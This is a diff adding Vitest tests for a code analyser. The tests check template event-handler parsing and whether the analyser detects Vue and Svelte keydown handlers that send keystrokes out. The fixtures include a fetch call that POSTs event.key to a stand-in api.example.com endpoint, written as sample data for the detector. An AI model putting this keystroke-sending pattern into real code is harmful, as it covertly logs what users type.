@@ -1,0 +1,37 @@
+import { describe, expect, it } from 'vitest';
+import { templateHandlers } from '../../src/project/templates.ts';
+import { analysed } from '../analysis/subject.ts';
+
+describe('handlers in a template', () => {
+  it.each([
+    ['<input @keydown="onKey">', 'keydown onKey'],
+    ['<input @keydown.enter.prevent="onKey($event)">', 'keydown onKey'],
+    ["<input v-on:keyup='onKey'>", 'keyup onKey'],
+    ['<input on:keydown={onKey}>', 'keydown onKey'],
+    ['<input on:input|once={(e) => onInput(e)}>', 'input onInput'],
+    ['<input onkeydown={onKey}>', 'keydown onKey'],
+    ['<input @blur="this.onBlur"/><p @click="go">', 'blur onBlur, click go'],
+    // Other events, code that is written out, and what is no attribute of an event.
+    ['<input @saved="onSaved">', ''],
+    ['<input @keydown="count++">', ''],
+    ['<input @keydown="send($event.key)">', ''],
+    ['<input on:keydown={(e) => onKey(other)}>', ''],
+    ['<input :keydown="onKey">', ''],
+    ['<p>write to @keydown</p>', ''],
+  ])('%s', (markup, expected) => {
+    expect(templateHandlers(markup).map(({ event, name }) => `${event} ${name}`).join(', ')).toBe(expected);
+  });
+});
+
+describe('what handlers of a template send', () => {
+  const send = "fetch('https://api.example.com/typed', { method: 'POST', body: event.key })";
+  const said = (file: string, code: string): string[] => analysed(code, `/p/${file}`).egress.flatMap(({ line, on, data }) => data.map(({ collects }) => `${line} ${on ?? '-'} ${collects ?? '-'}`));
+
+  it.each([
+    ['Vue, script setup', 'a.vue', `<script setup lang="ts">\nfunction onKey(event) { ${send}; }\n</script>\n<template><input @keydown="onKey"></template>`, ['2 keydown keys']],
+    ['Vue, options', 'a.vue', `<template><input v-on:keydown="onKey($event)"></template>\n<script>\nexport default { methods: { onKey(event) { ${send}; } } };\n</script>`, ['3 keydown keys']],
+    ['Svelte', 'a.svelte', `<script>\nconst onKey = (event) => { ${send}; };\n</script>\n<input on:keydown={onKey}>`, ['2 keydown keys']],
+    ['a handler of something else', 'a.vue', `<script setup lang="ts">\nfunction onKey(event) { ${send}; }\n</script>\n<template><my-list @saved="onKey" /></template>`, []],
+    ['a string in the code', 'a.svelte', `<script>\nconst text = '<input on:keydown={onKey}>';\nconst onKey = (event) => { ${send}; };\n</script>`, []],
+  ])('%s', (_, file, code, expected) => { expect(said(file, code)).toEqual(expected); });
+});
